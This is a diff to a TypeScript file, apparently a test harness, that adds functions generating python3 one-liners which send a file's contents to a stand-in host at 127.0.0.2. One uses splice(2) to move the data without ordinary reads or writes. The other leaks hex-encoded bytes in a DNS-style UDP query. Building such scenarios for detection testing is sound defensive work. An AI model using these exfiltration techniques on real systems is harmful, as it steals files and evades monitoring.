@@ -45,6 +45,30 @@ s.close()
 '`;
 }
 
+/** python3 moves `file` into a socket to 127.0.0.2:PORT with splice(2) twice, file → pipe → socket: no read or write of the data. */
+export function spliceScenario(file: string, port: number): string {
+  return `python3 -c '
+import os, socket
+s = socket.create_connection(("127.0.0.2", ${port}))
+fd = os.open("${file}", os.O_RDONLY)
+r, w = os.pipe()
+n = os.splice(fd, w, 1 << 16)
+while n > 0:
+    n -= os.splice(r, s.fileno(), n)
+s.close()
+'`;
+}
+
+/** A DNS-style leak: python3 reads `file` and sends part of it hex-encoded as a UDP datagram (a query name) to 127.0.0.2:PORT. */
+export function udpLeakScenario(file: string, port: number): string {
+  return `python3 -c '
+import socket
+d = open("${file}", "rb").read()[:24].hex()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto((d + ".leak.example").encode(), ("127.0.0.2", ${port}))
+'`;
+}
+
 /**
  * A local TLS server that reads its own key (`DIR/server.key`, made here with
  * openssl) and answers one HTTPS request on a connection it accepted on
